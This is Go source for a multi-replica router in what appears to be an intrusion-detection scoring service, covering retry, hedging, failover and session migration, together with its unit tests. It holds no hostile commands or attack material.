// and the fleet session config discovered.
func (rt *Router) Ready() bool {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.sessCfgKnown && !rt.ring.Empty()
}

// ---- routing ----

// work is a set of events (with their positions in the originating chunk)
// still awaiting verdicts.
type work struct {
	evs []stream.Event
	pos []int
}

// Route scores one chunk of events across the fleet: partition by ring,
// deliver each group with migration/retry/hedging, fail surviving events
// over to successors as replicas fall out, and return verdicts in input
// order. An error means some events were definitively not scored (none
// are silently dropped: the caller sees either a full verdict set or an
// error).
func (rt *Router) Route(ctx context.Context, events []stream.Event) ([]stream.Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}
	rt.events.Add(int64(len(events)))
	out := make([]stream.Verdict, len(events))
	pos := make([]int, len(events))
	for i := range pos {
		pos[i] = i
	}
	pending := []work{{evs: events, pos: pos}}
	var firstErr error
	// Each depth re-partitions over the current (post-ejection) ring, so
	// the loop terminates once every replica has had its chance.
	for depth := 0; len(pending) > 0; depth++ {
		if depth > len(rt.reps) {
			if firstErr == nil {
				firstErr = errUnroutable
			}
			return nil, fmt.Errorf("fleet: giving up after %d failovers: %w", depth-1, firstErr)
		}
		groups := rt.partition(pending)
		if groups == nil {
			if firstErr != nil {
				return nil, fmt.Errorf("%w (last error: %v)", ErrNoReplicas, firstErr)
			}
			return nil, ErrNoReplicas
		}
		if depth > 0 {
			rt.failovers.Add(1)
		}
		var (
			wg     sync.WaitGroup
			resMu  sync.Mutex
			failed []work
		)
		for addr, g := range groups {
			wg.Add(1)
			go func(addr string, g work) {
				defer wg.Done()
				rem, err := rt.deliverGroup(ctx, addr, g, out)
				resMu.Lock()
				if len(rem.evs) > 0 {
					failed = append(failed, rem)
				}
				if err != nil && firstErr == nil {
					firstErr = err
				}
				resMu.Unlock()
			}(addr, g)
		}
		wg.Wait()
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		// A terminal error (overload budget exhausted, unparsable echo)
		// stops the chunk: retrying elsewhere cannot help.
		if firstErr != nil && !errors.Is(firstErr, errFailover) {
			return nil, firstErr
		}
		firstErr = nil
		pending = failed
	}
	return out, nil
}

// errFailover wraps group failures that should re-route to a successor
// rather than abort the chunk.
var errFailover = errors.New("fleet: failover")

// partition splits pending work by the current ring owner of each event's
// user, preserving per-user event order. nil when the ring is empty.
func (rt *Router) partition(pending []work) map[string]work {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if rt.ring.Empty() || !rt.sessCfgKnown {
		return nil
	}
	groups := make(map[string]work)
	for _, w := range pending {
		for i, ev := range w.evs {
			addr := rt.ring.Lookup(ev.User)
			g := groups[addr]
			g.evs = append(g.evs, ev)
			g.pos = append(g.pos, w.pos[i])
			groups[addr] = g
		}
	}
	return groups
}

// deliverGroup sends one replica's share of a chunk: migrate any users
// whose windows live elsewhere, then score with retry/backoff/hedging.
// Verdicts received are committed — they scatter into out and fold into
// the shadows immediately, so a mid-group failure re-routes only the
// unanswered suffix. Returns the remaining (unscored) work; err wraps
// errFailover when the caller should re-route it.
func (rt *Router) deliverGroup(ctx context.Context, addr string, g work, out []stream.Verdict) (work, error) {
	rep := rt.byAddr[addr]
	if rep == nil {
		return g, errFailover
	}
	if err := rt.migrate(ctx, rep, groupUsers(g.evs)); err != nil {
		rt.eject(rep, fmt.Sprintf("session import failed: %v", err))
		return g, fmt.Errorf("%w: %v", errFailover, err)
	}
	backoff := rt.cfg.RetryBase
	lastClass := classInternal
	for attempt := 0; attempt < rt.cfg.RetryMax; attempt++ {
		if attempt > 0 {
			rt.retries.Add(1)
		}
		verdicts, class, retryAfter, err := rt.scoreHedged(ctx, rep, g.evs)
		if len(verdicts) > 0 {
			rt.applyVerdicts(addr, verdicts)
			for i, v := range verdicts {
				out[g.pos[i]] = v
			}
			g = work{evs: g.evs[len(verdicts):], pos: g.pos[len(verdicts):]}
		}
		if len(g.evs) == 0 {
			return work{}, nil
		}
		lastClass = class
		switch class {
		case classTransport, classNotReady:
			// The connection tore or the replica bounced mid-stream: events
			// past the last verdict may be half-ingested with no verdict to
			// show. Eject — its window state is superseded by the shadows —
			// and fail the remainder over.
			rt.eject(rep, fmt.Sprintf("score failed: %v", err))
			return g, fmt.Errorf("%w: %v", errFailover, err)
		case classOverloaded:
			// Shed is pre-ingestion by contract, so the same target retries
			// safely; honor Retry-After when it outlasts our own backoff.
			if !rt.sleepBackoff(ctx, &backoff, retryAfter) {
				return g, ctx.Err()
			}
		case classInternal:
			// The batch rolled back server-side (Process aborts atomically);
			// retry the same target after backoff.
			if !rt.sleepBackoff(ctx, &backoff, 0) {
				return g, ctx.Err()
			}
		case classUnparsable:
			// The replica rejected router-marshaled JSON: a protocol bug,
			// not a fleet-health problem. Abort the chunk loudly.
			return g, fmt.Errorf("fleet: replica %s rejected router event encoding: %v", addr, err)
		}
		// If a probe ejected the replica while we backed off, re-route now.
		rt.mu.Lock()
		alive := rep.ready && !rep.draining
		rt.mu.Unlock()
		if !alive {
			return g, fmt.Errorf("%w: %s left rotation during retries", errFailover, addr)
		}
	}
	// Retry budget exhausted. Persistent overload surfaces to the client
	// as a shed (ErrOverloaded → 429/in-band record: nothing was ingested,
	// the client retries) — dumping the load on a neighbor would just
	// cascade it. Persistent internal errors mark the replica sick:
	// eject it and fail the remainder over.
	if lastClass == classOverloaded {
		return g, fmt.Errorf("fleet: replica %s still overloaded after %d attempts: %w",
			addr, rt.cfg.RetryMax, stream.ErrOverloaded)
	}
	rt.eject(rep, "retry budget exhausted")
	return g, fmt.Errorf("%w: %s retry budget exhausted", errFailover, addr)
}

// groupUsers returns the distinct users in evs, order-preserving.
func groupUsers(evs []stream.Event) []string {
	seen := make(map[string]bool, len(evs))
	users := make([]string, 0, len(evs))
	for _, ev := range evs {
		if !seen[ev.User] {
			seen[ev.User] = true
			users = append(users, ev.User)
		}
	}
	return users
}

// sleepBackoff sleeps the jittered capped-exponential delay (or
// retryAfter when longer), returning false if ctx expired first.
func (rt *Router) sleepBackoff(ctx context.Context, backoff *time.Duration, retryAfter time.Duration) bool {
	d := *backoff
	*backoff *= 2
	if *backoff > rt.cfg.RetryCap {
		*backoff = rt.cfg.RetryCap
	}
	rt.rngMu.Lock()
	jittered := d/2 + time.Duration(rt.rng.Int63n(int64(d/2)+1))
	rt.rngMu.Unlock()
	if retryAfter > jittered {
		jittered = retryAfter
	}
	t := time.NewTimer(jittered)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}

// ---- session migration ----

// migrate lands the windows of any listed users whose sessions live on a
// different replica onto target before their events are scored there —
// the import-before-route rule that keeps an attack chain intact across
// failovers and ring moves. The source of truth is the old owner's live
// export when it is reachable (a drain), and the router's shadow windows
// when it is not (a crash).
func (rt *Router) migrate(ctx context.Context, target *replica, users []string) error {
	rt.mu.Lock()
	movers := make(map[string][]string)
	for _, u := range users {
		if o := rt.owners[u]; o != "" && o != target.addr {
			movers[o] = append(movers[o], u)
		}
	}
	rt.mu.Unlock()
	if len(movers) == 0 {
		return nil
	}
	// Deterministic order keeps failures reproducible under seeded chaos.
	oldAddrs := make([]string, 0, len(movers))
	for a := range movers {
		oldAddrs = append(oldAddrs, a)
	}
	sort.Strings(oldAddrs)
	for _, oldAddr := range oldAddrs {
		us := movers[oldAddr]
		var buf *bytes.Buffer
		old := rt.byAddr[oldAddr]
		rt.mu.Lock()
		reachable := old != nil && old.ready
		rt.mu.Unlock()
		if reachable {
			if b, err := rt.exportFrom(ctx, old, us); err == nil {
				buf = b
				rt.exports.Add(1)
			}
		}
		if buf == nil {
			b, err := rt.shadowCheckpoint(us, false)
			if err != nil {
				return err
			}
			buf = b
		}
		if err := rt.importTo(ctx, target, buf); err != nil {
			return err
		}
		rt.imports.Add(1)
		rt.mu.Lock()
		for _, u := range us {
			rt.owners[u] = target.addr
		}
		rt.mu.Unlock()
	}
	return nil
}

// exportFrom pulls the named users' windows off a live replica.
func (rt *Router) exportFrom(ctx context.Context, rep *replica, users []string) (*bytes.Buffer, error) {
	rep.inflight.Add(1)
	defer rep.inflight.Add(-1)
	ctx, cancel := context.WithTimeout(ctx, rt.cfg.RequestTimeout)
	defer cancel()
	q := make([]string, len(users))
	for i, u := range users {
		q[i] = url.QueryEscape(u)
	}
	u := rep.addr + "/sessions/export?users=" + strings.Join(q, ",")
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u, nil)
	if err != nil {
		return nil, err
	}
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		return nil, fmt.Errorf("export from %s: HTTP %d", rep.addr, resp.StatusCode)
	}
	var buf bytes.Buffer
	if _, err := io.Copy(&buf, resp.Body); err != nil {
		// A torn export body would fail the import checksum anyway; fail
		// fast here and let the caller fall back to shadows.
		return nil, err
	}
	return &buf, nil
}

// importTo lands a checkpoint on target's /sessions/import.
func (rt *Router) importTo(ctx context.Context, rep *replica, buf *bytes.Buffer) error {
	rep.inflight.Add(1)
	defer rep.inflight.Add(-1)
	ctx, cancel := context.WithTimeout(ctx, rt.cfg.RequestTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, rep.addr+"/sessions/import", bytes.NewReader(buf.Bytes()))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("import to %s: HTTP %d: %s", rep.addr, resp.StatusCode, strings.TrimSpace(string(body)))
	}
	return nil
}

// ---- scoring ----

// Error classes for one proxied /score exchange.
const (
	classOK = iota
	classTransport
	classOverloaded
	classNotReady
	classInternal
	classUnparsable
)

// scoreHedged runs scoreOnce against rep, optionally racing a hedge
// against the user's failover successor when the primary stalls past
// HedgeAfter. The hedge is a speculative failover: its target gets the
// group's shadow windows imported first, and whichever side answers first
// wins. A hedge win ejects the stalled primary (its state is now behind);
// a hedge loss clears the speculatively imported windows off the hedge
// target so no state lingers where the users don't live.
func (rt *Router) scoreHedged(ctx context.Context, rep *replica, evs []stream.Event) ([]stream.Verdict, int, time.Duration, error) {
	if rt.cfg.HedgeAfter <= 0 {
		return rt.scoreOnce(ctx, rep, evs)
	}
	type res struct {
		verdicts   []stream.Verdict
		class      int
		retryAfter time.Duration
		err        error
	}
	primaryCtx, cancelPrimary := context.WithCancel(ctx)
	defer cancelPrimary()
	primCh := make(chan res, 1)
	go func() {
		v, c, ra, err := rt.scoreOnce(primaryCtx, rep, evs)
		primCh <- res{v, c, ra, err}
	}()
	timer := time.NewTimer(rt.cfg.HedgeAfter)
	defer timer.Stop()
	select {
	case r := <-primCh:
		return r.verdicts, r.class, r.retryAfter, r.err
	case <-ctx.Done():
		return nil, classTransport, 0, ctx.Err()
	case <-timer.C:
	}
	// Primary stalled. Pick the successor for this group's first user.
	users := groupUsers(evs)
	rt.mu.Lock()
	hedgeAddr := rt.ring.LookupExcluding(users[0], rep.addr)
	rt.mu.Unlock()
	hedgeRep := rt.byAddr[hedgeAddr]
	if hedgeRep == nil || hedgeAddr == rep.addr {
		r := <-primCh
		return r.verdicts, r.class, r.retryAfter, r.err
	}
	rt.hedges.Add(1)
	hedgeCtx, cancelHedge := context.WithCancel(ctx)
	defer cancelHedge()
	hedgeCh := make(chan res, 1)
	go func() {
		// The hedge target must see the sessions before the events: import
		// the router's shadows (current through every committed verdict),
		// then score.
		buf, err := rt.shadowCheckpoint(users, false)
		if err == nil {
			err = rt.importTo(hedgeCtx, hedgeRep, buf)
		}
		if err != nil {
			hedgeCh <- res{nil, classTransport, 0, err}
			return
		}
		v, c, ra, err := rt.scoreOnce(hedgeCtx, hedgeRep, evs)
		hedgeCh <- res{v, c, ra, err}
	}()
	for {
		select {
		case r := <-primCh:
			if r.class == classOK {
				cancelHedge()
				// Scrub the hedge target: delete the speculatively imported
				// (and possibly half-scored) windows so stale state never
				// shadows a future legitimate migration there.
				if buf, err := rt.shadowCheckpoint(users, true); err == nil {
					if err := rt.importTo(ctx, hedgeRep, buf); err != nil {
						rt.cfg.Logf("fleet: hedge cleanup on %s failed: %v", hedgeAddr, err)
					}
				}
				return r.verdicts, r.class, r.retryAfter, r.err
			}
			// Primary failed after the hedge launched: ride the hedge if it
			// is still in flight (or already won); hedgeCh is nil when the
			// hedge died first.
			if hedgeCh != nil {
				if h := <-hedgeCh; h.class == classOK {
					rt.hedgeWins.Add(1)
					rt.eject(rep, "lost hedge race")
					rt.applyOwners(hedgeAddr, users)
					return h.verdicts, h.class, h.retryAfter, h.err
				}
			}
			return r.verdicts, r.class, r.retryAfter, r.err
		case h := <-hedgeCh:
			if h.class != classOK {
				// Hedge died first; keep waiting on the primary.
				hedgeCh = nil
				continue
			}
			rt.hedgeWins.Add(1)
			cancelPrimary()
			<-primCh // reap
			rt.eject(rep, "lost hedge race")
			rt.applyOwners(hedgeAddr, users)
			return h.verdicts, h.class, h.retryAfter, h.err
		case <-ctx.Done():
			return nil, classTransport, 0, ctx.Err()
		}
	}
}

// applyOwners pins users to addr (hedge wins move ownership without a
// migrate call).
func (rt *Router) applyOwners(addr string, users []string) {
	rt.mu.Lock()
	for _, u := range users {
		rt.owners[u] = addr
	}
	rt.mu.Unlock()
}

// scoreOnce performs one NDJSON /score exchange. Verdicts returned are
// committed on the replica even when err != nil (a torn stream yields the
// committed prefix plus a transport class for the rest).
func (rt *Router) scoreOnce(ctx context.Context, rep *replica, evs []stream.Event) ([]stream.Verdict, int, time.Duration, error) {
	rep.inflight.Add(1)
	defer rep.inflight.Add(-1)
	ctx, cancel := context.WithTimeout(ctx, rt.cfg.RequestTimeout)
	defer cancel()

	var body bytes.Buffer
	enc := json.NewEncoder(&body)
	for i := range evs {
		if err := enc.Encode(&evs[i]); err != nil {
			return nil, classInternal, 0, err
		}
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, rep.addr+"/score", bytes.NewReader(body.Bytes()))
	if err != nil {
		return nil, classInternal, 0, err
	}
	req.Header.Set("Content-Type", "application/x-ndjson")
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return nil, classTransport, 0, err
	}
	defer resp.Body.Close()
	switch resp.StatusCode {
	case http.StatusOK:
	case http.StatusTooManyRequests:
		io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		return nil, classOverloaded, parseRetryAfter(resp.Header.Get("Retry-After")), fmt.Errorf("replica %s overloaded", rep.addr)
	case http.StatusServiceUnavailable:
		io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		return nil, classNotReady, 0, fmt.Errorf("replica %s not ready", rep.addr)
	default:
		io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		return nil, classInternal, 0, fmt.Errorf("replica %s: HTTP %d", rep.addr, resp.StatusCode)
	}

	verdicts := make([]stream.Verdict, 0, len(evs))
	dec := json.NewDecoder(resp.Body)
	for {
		var raw json.RawMessage
		if err := dec.Decode(&raw); err != nil {
			if err == io.EOF {
				break
			}
			return verdicts, classTransport, 0, fmt.Errorf("replica %s: response stream: %v", rep.addr, err)
		}
		var probe struct {
			Error string `json:"error"`
			Code  string `json:"code"`
		}
		if json.Unmarshal(raw, &probe) == nil && probe.Error != "" {
			class := classInternal
			switch probe.Code {
			case "overloaded":
				class = classOverloaded
			case "unparsable":
				class = classUnparsable
			}
			return verdicts, class, 0, fmt.Errorf("replica %s: %s", rep.addr, probe.Error)
		}
		var v stream.Verdict
		if err := json.Unmarshal(raw, &v); err != nil {
			return verdicts, classTransport, 0, fmt.Errorf("replica %s: bad verdict line: %v", rep.addr, err)
		}
		if len(verdicts) == len(evs) {
			return verdicts, classTransport, 0, fmt.Errorf("replica %s: more verdicts than events", rep.addr)
		}
		verdicts = append(verdicts, v)
	}
	if len(verdicts) < len(evs) {
		// Torn mid-response: the prefix committed, the suffix is unknown.
		return verdicts, classTransport, 0, fmt.Errorf("replica %s: response truncated at %d/%d verdicts", rep.addr, len(verdicts), len(evs))
	}
	return verdicts, classOK, 0, nil
}

// parseRetryAfter reads a delay-seconds Retry-After value ("1", "2");
// HTTP-date forms are ignored (treated as no hint).
func parseRetryAfter(v string) time.Duration {
	if v == "" {
		return 0
	}
	if secs, err := strconv.Atoi(strings.TrimSpace(v)); err == nil && secs >= 0 {
		return time.Duration(secs) * time.Second
	}
	return 0
}

// IsOverloaded reports whether err carries an overload class — the
// router's /score maps it to 429 exactly like a single replica's shed.
func IsOverloaded(err error) bool {
	return errors.Is(err, stream.ErrOverloaded)
}
