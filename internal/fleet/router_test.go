package fleet

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"clmids/internal/faults"
	"clmids/internal/stream"
)

// A healthy fleet must be a transparent proxy: verdicts through the
// router's HTTP surface are byte-identical to a single-node run over the
// same events.
func TestFleetMatchesSingleNode(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t), newTestReplica(t)}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 3)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()

	ref := newTestService(t)
	defer ref.Close()

	events := chainEvents(12, 8)
	var fleetVerdicts, refVerdicts []stream.Verdict
	for _, chunk := range chunked(events, 25) {
		fleetVerdicts = append(fleetVerdicts, scoreHTTP(t, front.URL, chunk)...)
		rv, err := ref.Submit(chunk)
		if err != nil {
			t.Fatalf("reference submit: %v", err)
		}
		refVerdicts = append(refVerdicts, rv...)
	}
	if len(fleetVerdicts) != len(events) {
		t.Fatalf("fleet returned %d verdicts for %d events", len(fleetVerdicts), len(events))
	}
	if got, want := verdictJSON(t, fleetVerdicts), verdictJSON(t, refVerdicts); got != want {
		t.Fatalf("fleet verdicts diverge from single node:\nfleet: %.400s\nref:   %.400s", got, want)
	}
	// Sanity: the traffic actually spread over multiple replicas.
	spread := 0
	for _, rep := range reps {
		if rep.svc.Stats().Events > 0 {
			spread++
		}
	}
	if spread < 2 {
		t.Fatalf("only %d replicas saw traffic — ring not spreading", spread)
	}
}

// The failover drill from the issue: an attack chain whose step-1 lands on
// replica A and step-2 lands on replica B after A is killed must trip the
// same session alarm as a single-node run, with zero event loss.
func TestFleetFailoverPreservesAttackChain(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t)}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 2)

	ref := newTestService(t)
	defer ref.Close()

	events := chainEvents(8, 6)
	chunks := chunked(events, 30)
	killAt := len(chunks) / 2

	var fleetVerdicts, refVerdicts []stream.Verdict
	for i, chunk := range chunks {
		if i == killAt {
			// Kill whichever replica currently owns the attack user so the
			// chain is guaranteed to straddle the failover.
			rt.mu.Lock()
			owner := rt.ring.Lookup("mallory")
			rt.mu.Unlock()
			for _, rep := range reps {
				if rep.srv.URL == owner {
					rep.kill()
				}
			}
		}
		vs, err := rt.Route(context.Background(), chunk)
		if err != nil {
			t.Fatalf("chunk %d: %v", i, err)
		}
		fleetVerdicts = append(fleetVerdicts, vs...)
		rv, err := ref.Submit(chunk)
		if err != nil {
			t.Fatalf("reference submit: %v", err)
		}
		refVerdicts = append(refVerdicts, rv...)
	}

	if len(fleetVerdicts) != len(events) {
		t.Fatalf("lost events across failover: %d verdicts for %d events", len(fleetVerdicts), len(events))
	}
	if got, want := verdictJSON(t, fleetVerdicts), verdictJSON(t, refVerdicts); got != want {
		t.Fatalf("post-failover verdicts diverge from single node")
	}
	alarms := 0
	for _, v := range fleetVerdicts {
		if v.User == "mallory" && v.SessionAlert {
			alarms++
		}
	}
	if alarms == 0 {
		t.Fatal("attack chain tripped no session alarm across the failover")
	}
	st := rt.Stats()
	if st.Failovers == 0 {
		t.Fatalf("expected at least one failover, stats: %+v", st)
	}
}

// Probe-driven ejection and readmission: a replica that stops answering
// probes leaves the ring after EjectAfter failures and rejoins after
// ReadmitAfter successes — with its config re-verified on the way back in.
func TestEjectionReadmissionStateMachine(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t)}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 2)

	reps[1].kill()
	waitHealthy(t, rt, 1)
	st := rt.Stats()
	var dead ReplicaStatus
	for _, r := range st.Replicas {
		if r.Addr == reps[1].srv.URL {
			dead = r
		}
	}
	if dead.Ready || dead.Ejections == 0 {
		t.Fatalf("killed replica not ejected: %+v", dead)
	}

	reps[1].revive()
	waitHealthy(t, rt, 2)
	st = rt.Stats()
	for _, r := range st.Replicas {
		if r.Addr == reps[1].srv.URL {
			if !r.Ready || r.Readmissions == 0 || !r.ConfigVerified {
				t.Fatalf("revived replica not readmitted with verified config: %+v", r)
			}
		}
	}
}

// A replica whose session config disagrees with the fleet's must be held
// out of rotation: shadow windows and migrated checkpoints would silently
// mis-score there.
func TestConfigMismatchHeldOut(t *testing.T) {
	good := newTestReplica(t)
	divergent := newDivergentReplica(t)
	rt := newTestRouter(t, nil, good, divergent)
	waitHealthy(t, rt, 1)

	st := rt.Stats()
	for _, r := range st.Replicas {
		if r.Addr == divergent.srv.URL && (r.Ready || r.ConfigVerified) {
			t.Fatalf("config-mismatched replica admitted to rotation: %+v", r)
		}
	}
	// Traffic still flows through the good replica.
	vs, err := rt.Route(context.Background(), chainEvents(4, 2))
	if err != nil || len(vs) == 0 {
		t.Fatalf("fleet with one good replica failed to score: %v", err)
	}
}

// stubScore is a scripted /score backend for retry-path tests: behavior
// keyed off the request ordinal.
type stubReplica struct {
	srv    *httptest.Server
	scores atomic.Int64
	// behave decides request n's fate; return true to fall through to the
	// default echo (one verdict per event).
	behave func(n int64, w http.ResponseWriter, r *http.Request) bool
}

func newStubReplica(t *testing.T, behave func(n int64, w http.ResponseWriter, r *http.Request) bool) *stubReplica {
	t.Helper()
	s := &stubReplica{behave: behave}
	cfg := testSessionConfig()
	mux := http.NewServeMux()
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "ready") })
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "ok") })
	mux.HandleFunc("/stats", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]any{"config": cfg, "modality": "shell"})
	})
	mux.HandleFunc("/sessions/import", func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(map[string]int{"imported": 0})
	})
	mux.HandleFunc("/sessions/export", func(w http.ResponseWriter, r *http.Request) {
		stream.WriteSessionsCheckpoint(w, cfg, "shell", nil, 0)
	})
	mux.HandleFunc("/score", func(w http.ResponseWriter, r *http.Request) {
		n := s.scores.Add(1)
		if s.behave != nil && !s.behave(n, w, r) {
			return
		}
		w.Header().Set("Content-Type", "application/x-ndjson")
		enc := json.NewEncoder(w)
		sc := bufio.NewScanner(r.Body)
		for sc.Scan() {
			if len(sc.Bytes()) == 0 {
				continue
			}
			var ev stream.Event
			if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
				continue
			}
			enc.Encode(stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line})
		}
	})
	s.srv = httptest.NewServer(mux)
	t.Cleanup(s.srv.Close)
	return s
}

// 429 + Retry-After must back off and retry the same replica — shed is
// pre-ingestion, so the retry is safe and sheds must not trigger failover.
func TestOverloadRetriesSameReplica(t *testing.T) {
	stub := newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		if n <= 2 {
			w.Header().Set("Retry-After", "0")
			http.Error(w, "shed", http.StatusTooManyRequests)
			return false
		}
		return true
	})
	rt := newTestRouter(t, nil, &testReplica{srv: stub.srv})
	waitHealthy(t, rt, 1)

	evs := []stream.Event{{User: "u", Time: 1, Line: "x"}}
	vs, err := rt.Route(context.Background(), evs)
	if err != nil {
		t.Fatalf("Route after sheds: %v", err)
	}
	if len(vs) != 1 || stub.scores.Load() != 3 {
		t.Fatalf("want success on 3rd attempt, got %d verdicts after %d attempts", len(vs), stub.scores.Load())
	}
	if st := rt.Stats(); st.Retries != 2 || st.Failovers != 0 {
		t.Fatalf("want 2 retries and no failover, stats: %+v", st)
	}
}

// Persistent overload surfaces as ErrOverloaded (the router's 429), not as
// a failover that would dump the load on a neighbor.
func TestPersistentOverloadSurfacesAsShed(t *testing.T) {
	stub := newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		w.Header().Set("Retry-After", "0")
		http.Error(w, "shed", http.StatusTooManyRequests)
		return false
	})
	rt := newTestRouter(t, nil, &testReplica{srv: stub.srv})
	waitHealthy(t, rt, 1)

	_, err := rt.Route(context.Background(), []stream.Event{{User: "u", Time: 1, Line: "x"}})
	if !IsOverloaded(err) {
		t.Fatalf("want ErrOverloaded through the router, got %v", err)
	}
}

// A response torn mid-stream commits the prefix and fails the suffix over:
// the router must return one verdict per event with no duplicates, and the
// torn replica must be ejected.
func TestTornResponseFailsOverSuffix(t *testing.T) {
	var torn *stubReplica
	torn = newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		// Answer the first event, then sever.
		w.Header().Set("Content-Type", "application/x-ndjson")
		sc := bufio.NewScanner(r.Body)
		enc := json.NewEncoder(w)
		wrote := 0
		for sc.Scan() {
			if len(sc.Bytes()) == 0 {
				continue
			}
			var ev stream.Event
			json.Unmarshal(sc.Bytes(), &ev)
			if wrote == 1 {
				if f, ok := w.(http.Flusher); ok {
					f.Flush()
				}
				panic(http.ErrAbortHandler)
			}
			enc.Encode(stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line})
			wrote++
		}
		return false
	})
	healthy := newStubReplica(t, nil)
	rt := newTestRouter(t, nil, &testReplica{srv: torn.srv}, &testReplica{srv: healthy.srv})
	waitHealthy(t, rt, 2)

	// All events for users owned by the torn replica, so the torn path is
	// deterministic: find users the ring assigns to it.
	ring := BuildRing([]string{torn.srv.URL, healthy.srv.URL}, 0)
	var evs []stream.Event
	for i := 0; len(evs) < 4 && i < 10000; i++ {
		u := fmt.Sprintf("torn-user-%d", i)
		if ring.Lookup(u) == torn.srv.URL {
			evs = append(evs, stream.Event{User: u, Time: int64(100 + i), Line: "y"})
		}
	}
	vs, err := rt.Route(context.Background(), evs)
	if err != nil {
		t.Fatalf("Route across torn response: %v", err)
	}
	if len(vs) != len(evs) {
		t.Fatalf("want %d verdicts, got %d", len(evs), len(vs))
	}
	seen := map[string]int{}
	for _, v := range vs {
		seen[v.User]++
	}
	for u, n := range seen {
		if n != 1 {
			t.Fatalf("user %s got %d verdicts — duplicate or loss across torn failover", u, n)
		}
	}
	st := rt.Stats()
	for _, r := range st.Replicas {
		if strings.HasPrefix(r.Addr, torn.srv.URL) && r.Ready {
			t.Fatalf("torn replica still in rotation: %+v", r)
		}
	}
}

// Hedging: when the primary stalls past HedgeAfter, the request races a
// speculative copy on the failover successor and the fleet answers at
// hedge speed instead of timeout speed.
func TestHedgedRequestWinsOverStalledPrimary(t *testing.T) {
	slow := newTestReplica(t)
	fast := newTestReplica(t)
	rt := newTestRouter(t, func(c *Config) {
		c.HedgeAfter = 50 * time.Millisecond
		c.RequestTimeout = 10 * time.Second
	}, slow, fast)
	waitHealthy(t, rt, 2)

	// Find a user owned by the slow replica.
	ring := BuildRing([]string{slow.srv.URL, fast.srv.URL}, 0)
	user := ""
	for i := 0; i < 10000; i++ {
		u := fmt.Sprintf("hedge-user-%d", i)
		if ring.Lookup(u) == slow.srv.URL {
			user = u
			break
		}
	}
	// Stall the slow replica's data path only: probes keep passing, so
	// only hedging (not ejection) can save the request's latency.
	slow.fault.SpareProbes(true)
	slow.fault.SetHold(5 * time.Second)
	slow.fault.Set(faults.ReplicaBlackhole)

	start := time.Now()
	vs, err := rt.Route(context.Background(), []stream.Event{{User: user, Time: 1, Line: "z"}})
	if err != nil {
		t.Fatalf("hedged route: %v", err)
	}
	if len(vs) != 1 {
		t.Fatalf("want 1 verdict, got %d", len(vs))
	}
	if elapsed := time.Since(start); elapsed > 3*time.Second {
		t.Fatalf("hedge did not rescue latency: took %v", elapsed)
	}
	if st := rt.Stats(); st.Hedges == 0 || st.HedgeWins == 0 {
		t.Fatalf("expected a hedge win, stats: %+v", st)
	}
}

// The router's own surface: /readyz tracks replica health, /stats carries
// fleet counters, and /score 503s when no replica is in rotation.
func TestRouterSurfaceLifecycle(t *testing.T) {
	rep := newTestReplica(t)
	rt := newTestRouter(t, nil, rep)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()
	waitHealthy(t, rt, 1)

	resp, err := http.Get(front.URL + "/readyz")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("readyz with healthy fleet: %v %v", err, resp.Status)
	}
	resp.Body.Close()

	rep.kill()
	waitHealthy(t, rt, 0)
	resp, err = http.Get(front.URL + "/readyz")
	if err != nil || resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("readyz with dead fleet: %v %v", err, resp.Status)
	}
	resp.Body.Close()

	r2, err := http.Post(front.URL+"/score", "application/x-ndjson", strings.NewReader(`{"user":"u","time":1,"line":"x"}`+"\n"))
	if err != nil {
		t.Fatalf("score with dead fleet: %v", err)
	}
	defer r2.Body.Close()
	if r2.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("score with dead fleet: want 503, got %d", r2.StatusCode)
	}
}
