// Package fleet is the multi-node serving tier: a thin router that
// consistent-hashes user → replica over N downstream clmserve replicas,
// speaking the same NDJSON /score protocol one level up from
// stream.ShardedDetector's hash(user) → shard. Robustness is the point:
// per-replica health probing with an ejection/readmission state machine,
